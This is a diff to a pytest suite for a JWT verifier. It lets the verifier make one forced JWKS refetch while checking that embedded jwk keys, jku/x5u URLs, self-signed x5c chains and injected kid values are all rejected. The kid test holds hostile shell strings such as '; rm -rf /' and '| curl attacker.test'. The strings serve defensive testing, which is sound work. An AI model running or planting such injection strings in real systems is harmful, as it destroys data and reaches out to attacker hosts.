@@ -87,7 +87,9 @@ def no_side_channels(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
     yield opened
 
 
-def _only_configured(net: Net, idp: MockIdP, at_most: int = 1) -> None:
+def _only_configured(net: Net, idp: MockIdP, at_most: int = 2) -> None:
+    # Cold: the fetch, plus (issue 10) the one forced refetch the first unknown kid after a
+    # fetch is owed; warm: at most that refetch. Only ever the configured URL.
     assert set(net.urls) <= {idp.jwks_uri}, net.urls
     assert len(net.requests) <= at_most
 
@@ -112,7 +114,7 @@ def test_hdr_01_embedded_jwk_is_never_a_trust_source(
     hs_jwk = {"kty": "oct", "k": b64u(b"attacker-secret-attacker-secret!")}
     token = _hs256({"alg": "HS256", "jwk": hs_jwk}, base_claims(idp), b"attacker-secret-attacker-secret!")
     expect_reject(lambda: warm.verify(token), DisallowedAlgorithm, "disallowed_algorithm")
-    assert net.requests == []
+    _only_configured(net, idp, at_most=1)  # warm: at most the forced refetch (issue 10)
 
 
 def _hs256(header: dict[str, Any], claims: dict[str, Any], secret: bytes) -> str:
@@ -148,7 +150,8 @@ def test_hdr_02_jku_and_hdr_03_x5u_are_never_fetched(
         expect_reject(
             lambda u=url: warm.verify(signed(hdr(kx, **{param: u}), base_claims(idp), kx)), UnknownKey
         )
-    assert net.requests == []
+    _only_configured(net, idp, at_most=1)  # warm: at most the forced refetch (issue 10)
+    net.requests.clear()
     cold = fresh()
     expect_reject(lambda: cold.verify(signed(hdr(kx, **{param: _URLS[0]}), base_claims(idp), kx)), UnknownKey)
     _only_configured(net, idp)
@@ -196,7 +199,7 @@ def test_hdr_04_x5c_self_signed_chain_is_ignored(
     expect_reject(
         lambda: warm.verify(signed(hdr(kx, **extra), base_claims(idp), kx)), UnknownKey, "unknown_key"
     )
-    assert net.requests == []
+    _only_configured(net, idp, at_most=1)  # warm: at most the forced refetch (issue 10)
 
 
 # -- HDR-05..08: kid values ------------------------------------------------------------------------
@@ -250,7 +253,8 @@ def test_hdr_07_kid_command_injection(
     kids = ["|sleep 10", "`id`", "$(curl http://127.0.0.1:9/)", "; rm -rf /", "| curl attacker.test"]
     for kid in kids:
         expect_reject(lambda k=kid: warm.verify(signed(hdr(kx, kid=k), base_claims(idp), kx)), UnknownKey)
-    assert net.requests == []  # warm cache: no I/O at all
+    _only_configured(net, idp, at_most=1)  # warm: one forced refetch at most (issue 10), then none
+    net.requests.clear()
     cold = fresh()
     expect_reject(lambda: cold.verify(signed(hdr(kx, kid=kids[0]), base_claims(idp), kx)), UnknownKey)
     _only_configured(net, idp)
